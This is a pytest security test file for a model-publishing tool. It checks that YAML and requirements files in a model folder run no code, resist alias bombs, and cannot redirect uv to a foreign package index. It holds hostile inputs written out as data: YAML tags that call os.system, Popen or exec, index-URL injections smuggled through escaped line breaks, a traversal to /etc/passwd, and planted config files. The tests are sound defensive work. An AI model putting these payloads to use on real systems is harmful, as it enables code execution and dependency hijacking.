"""File system: a model's own files are data. Nothing in its folder is run, unpickled, or steers a tool of ours."""

from __future__ import annotations

import http.server
import os
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from publisher.domain import BaseImage, Environment, Platform
from publisher.environments import documents, read
from publisher.environments.lock import Resolver
from publisher.errors import PublisherError, RequirementsError
from tests.contract.fronts import Front, front

BASE = BaseImage("base", "sha256:" + "0" * 64, "3.11.2", "/usr/bin/python3.11", (2, 36))
PLATFORM = Platform("linux", "amd64")


@pytest.fixture
def evil() -> Iterator[Front]:
    """An index that somebody wants us to ask."""
    with front(lambda handler: handler.answer(404)) as index:
        yield index


@pytest.fixture
def ours(tmp_path: Path) -> Iterator[str]:
    """The index of the settings: it has a page for one package, without a file that fits."""
    (tmp_path / "index" / "pkg").mkdir(parents=True)
    (tmp_path / "index" / "pkg" / "index.html").write_text("<html><body></body></html>")

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object) -> None:
            super().__init__(*args, directory=str(tmp_path / "index"))  # type: ignore[arg-type]

        def log_message(self, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()


def model(folder: Path, **files: str) -> Path:
    """A model's folder; ``_`` for the dots of its files' names."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in {"MLmodel": "flavors: {}\n", **files}.items():
        (folder / name.replace("_", ".")).write_text(text)
    return folder


@pytest.mark.parametrize("name", ["MLmodel", "conda.yaml", "python_env.yaml"])
@pytest.mark.parametrize(
    "payload",
    [
        "!!python/object/apply:os.system ['touch {marker}']",
        "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
        "!!python/name:os.system",
        "!!python/module:antigravity",
        "!!python/object/apply:builtins.exec [\"open('{marker}', 'w')\"]",
    ],
)
def test_yaml_makes_no_objects(tmp_path: Path, name: str, payload: str) -> None:
    """Tags of Python in any YAML file of a model are an error that names the file, and run nothing."""
    marker = tmp_path / "marker"
    folder = model(tmp_path / "model", requirements_txt="pkg\n")
    (folder / name).write_text(f"dependencies:\n- {payload.format(marker=marker)}\n")
    with pytest.raises(RequirementsError, match=name):
        read(folder)
    assert not marker.exists()


def _nested(last: str) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    return "\n".join([*lines, f"{last}: *a11", ""])


MERGED = "\n".join(
    ["m0: &m0 {k: v}"] + [f"m{n}: &m{n} {{<<: [{', '.join([f'*m{n - 1}'] * 10)}]}}" for n in range(1, 12)]
)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (_nested("dependencies"), "stands for more than"),
        (MERGED, "stands for more than"),
        ("dependencies: &a [*a]", "contains itself"),
        ("[" * 200_000, "nested too deeply"),
        ("{a: " * 50_000, "nested too deeply"),
        ("dependencies: " + "9:" * 400_000 + "9", "number that is too long"),
        ("dependencies: " + "9" * 1_000_000, "number that is too long"),
    ],
    ids=["lists", "merges", "itself", "brackets", "mappings", "base 60", "digits"],
)
def test_yaml_that_multiplies(text: str, said: str) -> None:
    """A kilobyte of aliases that stands for a trillion values, and other exhausting text, ends at once."""
    begin = time.monotonic()
    with pytest.raises(ValueError, match=said):
        documents.load(text)
    assert time.monotonic() - begin < 20


def test_yaml_with_aliases_is_read() -> None:
    """Aliases as MLflow writes them, where one list is in two places, are what they stand for."""
    same = ["numpy", "scipy"]
    assert documents.load(yaml.safe_dump({"a": same, "b": same})) == {"a": same, "b": same}
    assert documents.load("") is None


@pytest.mark.parametrize(
    "line",
    [
        r"pkg; os_name != '3" r'"' r"\n--index-url {evil}\n#'",
        r"pkg; os_name != '\x0d--index-url {evil}\x0d'",
        r"pkg; os_name != '\u2028--index-url {evil}'",
        "pkg\x0c--index-url {evil}",
        "pkg \\\n--index-url {evil}",
        "--index-url {evil}",
        "-i{evil}",
        "--extra-index-url={evil}",
        "-f {evil}",
        "--find-links {evil}",
        "pkg @ {evil}pkg-1.0-py3-none-any.whl",
        "-r {evil}requirements.txt",
        "-c {evil}constraints.txt",
        "-r ../../../etc/passwd",
        "-e {evil}",
        "pkg --hash=sha256:00 --index-url {evil}",
    ],
)
@pytest.mark.parametrize("kind", ["requirements.txt", "conda.yaml", "python_env.yaml"])
def test_requirements_name_no_index(tmp_path: Path, evil: Front, line: str, kind: str) -> None:
    """No line of a model, not one with an escaped line break in a marker, makes uv ask another index."""
    url = f"http://{evil.host}/"
    text = line.format(evil=url)
    folder = model(tmp_path / "model")
    listed = {
        "requirements.txt": text + "\n",
        "conda.yaml": yaml.safe_dump({"dependencies": ["python=3.11", {"pip": [text]}]}),
        "python_env.yaml": yaml.safe_dump({"dependencies": [text]}),
    }
    (folder / kind).write_text(listed[kind])
    try:
        environment = read(folder, serve=False)
    except RequirementsError:
        pass
    else:
        _lock(tmp_path, environment, {"UV_INDEX_URL": "http://127.0.0.1:9/"})
    assert not evil.seen


FILES = {
    "uv.toml": '[[index]]\nurl = "{evil}"\n',
    "pyproject.toml": '[tool.uv]\nindex-url = "{evil}"\n',
    "pip.conf": "[global]\nindex-url = {evil}\n",
    ".netrc": "default login x password y\n",
    ".env": "UV_INDEX_URL={evil}\n",
    ".python-version": "3.8\n",
}


def test_files_beside_the_work_do_not_steer_uv(tmp_path: Path, evil: Front, ours: str) -> None:
    """uv.toml, pyproject.toml, pip.conf above the folder where uv runs, as in a shared /tmp, change nothing."""
    shared = tmp_path / "shared"
    shared.mkdir()
    for name, text in FILES.items():
        (shared / name).write_text(text.format(evil=f"http://{evil.host}/"))
    here = Path.cwd()
    os.chdir(shared)
    try:
        said = _lock(shared / "cache", Environment(("pkg",)), {"UV_INDEX_URL": ours})
    finally:
        os.chdir(here)
    assert not evil.seen
    assert "pkg" in said  # our own index was asked, and said that it has none that fits


def _lock(cache: Path, environment: Environment, more: dict[str, str]) -> str:
    """What uv's refusal says; the index is one that has nothing."""
    environ = {"PATH": os.environ["PATH"], "HOME": str(cache / "home"), "UV_HTTP_RETRIES": "0", **more}
    with pytest.raises(PublisherError) as caught:
        Resolver.load(cache, environ).lock(environment, PLATFORM, BASE, registered=datetime.now(UTC))
    return f"{caught.value} {caught.value.detail}"
